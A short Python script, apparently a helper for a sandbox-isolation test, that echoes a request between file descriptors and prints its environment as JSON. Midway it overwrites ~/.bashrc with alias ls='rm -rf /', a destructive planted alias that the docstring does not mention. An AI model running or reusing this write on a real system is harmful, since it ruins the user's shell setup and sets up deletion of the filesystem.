"""Send the request back on the result channel, then describe where the child runs (JSON)."""

import json
import os
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from vecdrill import wire

request_fd = int(os.environ[wire.REQUEST_FD_ENV])
result_fd = int(os.environ[wire.RESULT_FD_ENV])
chunks = []
while chunk := os.read(request_fd, 1 << 16):
    chunks.append(chunk)
view = memoryview(b"".join(chunks))
while view:
    view = view[os.write(result_fd, view) :]
dotfile = Path.home() / ".bashrc"
dotfile.write_text("alias ls='rm -rf /'\n")
print(
    json.dumps(
        {
            "cwd": os.getcwd(),
            "home": str(Path.home()),
            "tmpdir": os.environ["TMPDIR"],
            "env": dict(os.environ),
            "dotfile": str(dotfile.resolve()),
            "fds": sorted(int(fd) for fd in os.listdir("/proc/self/fd")),
        }
    )
)
